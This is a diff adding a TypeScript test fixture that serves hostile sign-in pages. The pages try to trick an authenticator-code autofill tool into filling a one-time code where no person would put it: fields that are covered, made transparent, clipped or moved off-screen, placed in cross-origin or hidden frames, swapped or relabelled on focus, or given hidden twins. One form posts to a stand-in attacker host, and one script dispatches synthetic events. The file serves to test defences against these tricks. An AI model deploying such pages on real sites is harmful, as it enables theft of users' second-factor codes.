@@ -1,0 +1,219 @@
+// Pages that ask for an authenticator's code as Headway does, and try to get it where no person would put it:
+// into what is covered, faint, tiny or elsewhere, into another's frame or form, or without anybody's act.
+
+export type Trap = {
+  readonly name: string;
+  /** Within the body, after the heading. */
+  readonly body: string;
+  readonly style?: string;
+  /**
+   * Runs in the page before Waykey is asked. A trap that springs at a focus says by `isSprung` whether it
+   * has: what a person saw being filled before that is no loot.
+   */
+  readonly script?: string;
+  /** Documents for frames, served by name at `/traps/frames/NAME` of every host. */
+  readonly frames?: Readonly<Record<string, string>>;
+  /** The one field that may hold the code: a selector. Null: the page gets no code at all. */
+  readonly mayHold: string | null;
+};
+
+const FIELD = `<label for="code">Code from your authenticator app</label>
+<input id="code" name="code" inputmode="numeric" autocomplete="one-time-code" maxlength="6">`;
+const BUTTON = `<button type="button">Continue</button>`;
+const inForm = (field: string) => `<form>${field}${BUTTON}</form>`;
+const BOX = `position: absolute; left: 0; top: 0; width: 600px; height: 400px`;
+
+export const TRAPS: readonly Trap[] = [
+  {
+    name: "an opaque cover over the field",
+    body: `${inForm(FIELD)}<div style="${BOX}; background: #fff">Nothing to see</div>`,
+    mayHold: null,
+  },
+  {
+    name: "a cover that lets clicks through",
+    body: `${inForm(FIELD)}<div style="${BOX}; background: #fff; pointer-events: none">Nothing</div>`,
+    mayHold: null,
+  },
+  {
+    name: "a cover that lets clicks through, earlier in the page and inside a positioned box",
+    body: `<div style="${BOX}; z-index: 5; pointer-events: none"><div style="width: 600px;
+      height: 400px; background: rgb(255 255 255 / 0.95)">Nothing</div></div>${inForm(FIELD)}`,
+    mayHold: null,
+  },
+  {
+    name: "a picture that lets clicks through",
+    body: `${inForm(FIELD)}<svg style="${BOX}; pointer-events: none" viewBox="0 0 6 4"
+      preserveAspectRatio="none"><rect width="6" height="4" fill="white"/></svg>`,
+    mayHold: null,
+  },
+  {
+    name: "opacity on what the field lies in",
+    body: `<div style="opacity: 0.5"><div style="opacity: 0.3"><div style="opacity: 0.1">
+      ${inForm(FIELD)}</div></div></div>`,
+    mayHold: null,
+  },
+  {
+    name: "a filter on what the field lies in",
+    body: `<div style="filter: opacity(2%)">${inForm(FIELD)}</div>`,
+    mayHold: null,
+  },
+  {
+    name: "no size to speak of",
+    style: "#code { width: 1px; height: 1px; padding: 0; border: 0 }",
+    body: inForm(FIELD),
+    mayHold: null,
+  },
+  {
+    name: "a scale of nothing",
+    body: `<div style="transform: scale(0.01)">${inForm(FIELD)}</div>`,
+    mayHold: null,
+  },
+  {
+    name: "a clip that leaves nothing",
+    style: "#code { clip-path: inset(50%) }",
+    body: inForm(FIELD),
+    mayHold: null,
+  },
+  {
+    name: "a place beyond the edge of the page",
+    style: "#code { position: absolute; left: -5000px; top: 50px }",
+    body: inForm(FIELD),
+    mayHold: null,
+  },
+  {
+    name: "a fixed place below the window",
+    style: "#code { position: fixed; top: 200vh }",
+    body: inForm(FIELD),
+    mayHold: null,
+  },
+  {
+    name: "a frame of another site",
+    body: `<iframe src="https://evilheadway.co/traps/frames/field" width="500" height="200"></iframe>`,
+    frames: { field: `<h1>Two-factor sign-in</h1>${inForm(FIELD)}` },
+    mayHold: null,
+  },
+  {
+    name: "a frame without an origin of its own",
+    body: `<iframe sandbox="allow-scripts" srcdoc='${inForm(FIELD)}' width="500" height="200"></iframe>`,
+    mayHold: null,
+  },
+  {
+    name: "a frame of the same origin that shows nothing",
+    body: `<iframe src="/traps/frames/own" width="1" height="1"></iframe>`,
+    frames: { own: `<h1>Two-factor sign-in</h1>${inForm(FIELD)}` },
+    mayHold: null,
+  },
+  {
+    name: "a box that shows one pixel of the field",
+    body: `<div style="width: 1px; height: 1px; overflow: hidden">${inForm(FIELD)}</div>`,
+    mayHold: null,
+  },
+  {
+    name: "a form that goes to another site",
+    body: `<form action="https://evilheadway.co/collect" method="post">${FIELD}${BUTTON}</form>`,
+    mayHold: null,
+  },
+  {
+    name: "a field that is put under a cover when it takes the focus",
+    body: `${inForm(FIELD)}<div id="cover" hidden style="${BOX}; background: #fff">Covered</div>`,
+    script: `document.querySelector("#code").addEventListener("focus", () => {
+      document.querySelector("#cover").hidden = false;
+    });
+    window.isSprung = () => !document.querySelector("#cover").hidden;`,
+    mayHold: null,
+  },
+  {
+    name: "a field that is exchanged when it takes the focus",
+    body: `${inForm(FIELD)}<p id="later" style="opacity: 0.01"></p>`,
+    script: `const code = document.querySelector("#code");
+    code.addEventListener("focus", () => {
+      if (!code.isConnected) return;
+      const other = code.cloneNode();
+      other.id = "other";
+      kept.push(code, other);
+      code.replaceWith(document.createElement("span"));
+      document.querySelector("#later").append(other);
+      other.focus();
+    });
+    window.isSprung = () => !code.isConnected;`,
+    mayHold: null,
+  },
+  {
+    name: "a field that becomes one for a texted code when it takes the focus",
+    body: inForm(FIELD),
+    script: `const code = document.querySelector("#code");
+    code.addEventListener("focus", () => {
+      document.querySelector("h1").textContent = "Enter the code we texted to your phone";
+      document.querySelector("label").textContent = "Text message code";
+      document.title = "Check your phone";
+    });
+    window.isSprung = () => document.title === "Check your phone";`,
+    mayHold: null,
+  },
+  {
+    name: "a hidden twin before the field",
+    body: `<div style="opacity: 0"><input name="code" autocomplete="one-time-code"
+      aria-label="Code from your authenticator app"></div>${inForm(FIELD)}`,
+    mayHold: "#code",
+  },
+  {
+    name: "a hidden field of the same name that copies nothing by itself",
+    body: inForm(`<input type="hidden" name="code" autocomplete="one-time-code">
+      <input name="website" tabindex="-1" autocomplete="one-time-code" style="position: absolute;
+        left: -9999px">${FIELD}`),
+    mayHold: "#code",
+  },
+  {
+    name: "events that the page sends itself",
+    body: inForm(FIELD),
+    script: `const code = document.querySelector("#code");
+    setInterval(() => {
+      code.focus();
+      for (const type of ["focusin", "click", "pointerdown", "mouseup"]) {
+        code.dispatchEvent(new Event(type, { bubbles: true, composed: true }));
+      }
+      for (const key of ["Enter", "L"]) {
+        const init = { key, altKey: key === "L", shiftKey: key === "L", bubbles: true };
+        for (const type of ["keydown", "keyup"]) {
+          code.dispatchEvent(new KeyboardEvent(type, init));
+        }
+      }
+      document.dispatchEvent(new MessageEvent("message", { data: { type: "fill-code" } }));
+      postMessage({ type: "fill-code", code: "123456" }, "*");
+    }, 20);`,
+    mayHold: "#code",
+  },
+];
+
+export const EVENTS_TRAP = TRAPS.findIndex(({ name }) => name.startsWith("events that"));
+
+const HTML = "text/html; charset=utf-8";
+
+export function trapPath(index: number): string {
+  return `/traps/${index}`;
+}
+
+/** What SiteOptions has as `guests`. */
+export function serveTraps({
+  pathname,
+}: URL): { readonly type: string; readonly text: string } | null {
+  const [, kind, name] = /^\/traps\/(?:(frames)\/)?([\w-]+)$/.exec(pathname) ?? [];
+  if (name === undefined) return null;
+  if (kind !== undefined) {
+    const frame = TRAPS.find(({ frames }) => frames !== undefined && name in frames)?.frames?.[
+      name
+    ];
+    return frame === undefined ? null : { type: HTML, text: `<!doctype html>${frame}` };
+  }
+  const trap = TRAPS[Number(name)];
+  return trap === undefined ? null : { type: HTML, text: documentOf(trap) };
+}
+
+function documentOf({ style = "", body, script = "" }: Trap): string {
+  return `<!doctype html>
+<html lang="en">
+<head><meta charset="utf-8"><title>Two-factor sign-in</title><style>${style}</style></head>
+<body><h1>Enter the code from your authenticator app</h1>${body}
+<script>const kept = window.kept = [];${script}</script></body>
+</html>`;
+}
